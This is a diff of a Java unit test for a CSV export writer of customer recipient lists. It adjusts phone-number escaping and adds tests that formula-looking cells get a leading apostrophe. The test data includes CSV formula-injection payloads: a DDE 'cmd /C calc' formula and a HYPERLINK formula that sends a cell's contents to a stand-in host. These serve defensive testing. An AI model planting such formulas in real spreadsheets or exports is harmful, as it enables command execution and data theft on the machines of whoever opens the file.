@@ -37,7 +37,7 @@ class CsvListWriterTest {
         String csv = text(written(CsvListWriter.commas(), RECIPIENT_COLUMNS, List.of(anna(), blank()).iterator()));
         assertThat(csv.lines()).containsExactly(
                 "First name,Postal code,Phone,Repeat purchases,P(alive),CLV (12 months),Last purchase,Sent,Consented",
-                "Anna,00100,'+358401234567,7,0.8125,1234.50,2026-03-14,2026-11-23 14:05:00,TRUE",
+                "Anna,00100,+358401234567,7,0.8125,1234.50,2026-03-14,2026-11-23 14:05:00,TRUE",
                 "Erkki,,,,,,,,");
     }
 
@@ -46,7 +46,7 @@ class CsvListWriterTest {
         String csv = text(written(CsvListWriter.semicolons(), RECIPIENT_COLUMNS, List.<Object[]>of(anna()).iterator()));
         assertThat(csv.lines()).containsExactly(
                 "First name;Postal code;Phone;Repeat purchases;P(alive);CLV (12 months);Last purchase;Sent;Consented",
-                "Anna;00100;'+358401234567;7;0,8125;1234,50;2026-03-14;2026-11-23 14:05:00;TRUE");
+                "Anna;00100;+358401234567;7;0,8125;1234,50;2026-03-14;2026-11-23 14:05:00;TRUE");
     }
 
     @Test
@@ -56,15 +56,31 @@ class CsvListWriterTest {
         assertThat(csv.lines().skip(1)).containsExactly("-12,50;0,1");
     }
 
+    /** What a spreadsheet would run as a formula when it opens the CSV file. */
+    private static final List<String> RUNNABLE = List.of("=cmd|' /C calc'!A0", "=1+1", "+1+cmd|' /C calc'!A0", "-2+3",
+            "@SUM(A1)", "\t=1+2", "\r=1+3", "\n=1+4", "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "-Anna-", "+", "-");
+
+    /** Plain signed numbers and phone numbers: a spreadsheet reads them as values, so no apostrophe shows. */
+    private static final List<String> PLAIN = List.of("+358 40 123 4567", "+358401234567", "-49,90", "-1234.50", "-2", "+1",
+            "-1 234,50");
+
     @Test
     void formulaLookingTextGetsALeadingApostrophe() throws IOException {
-        List<CSVRecord> records = parsed(written(CsvListWriter.commas(), TEXT_COLUMNS, textRows(HOSTILE).iterator()), ',');
-        for (int i = 0; i < HOSTILE.size(); i++) {
-            assertThat(records.get(i + 1).values()).containsExactly("'" + HOSTILE.get(i), "'" + HOSTILE.get(i));
+        List<CSVRecord> records = parsed(written(CsvListWriter.commas(), TEXT_COLUMNS, textRows(RUNNABLE).iterator()), ',');
+        for (int i = 0; i < RUNNABLE.size(); i++) {
+            assertThat(records.get(i + 1).values()).containsExactly("'" + RUNNABLE.get(i), "'" + RUNNABLE.get(i));
         }
         String csv = text(written(CsvListWriter.commas(), TEXT_COLUMNS, textRows(HOSTILE).iterator()));
         assertThat(csv).contains("\r\n'=cmd|' /C calc'!A0,'=cmd|' /C calc'!A0\r\n");
         assertThat(csv).contains("\r\n'@SUM(A1),'@SUM(A1)\r\n");
+    }
+
+    @Test
+    void plainPhoneNumbersAndNegativeAmountsGetNoApostrophe() throws IOException {
+        List<CSVRecord> records = parsed(written(CsvListWriter.semicolons(), TEXT_COLUMNS, textRows(PLAIN).iterator()), ';');
+        for (int i = 0; i < PLAIN.size(); i++) {
+            assertThat(records.get(i + 1).values()).containsExactly(PLAIN.get(i), PLAIN.get(i));
+        }
     }
 
     @Test
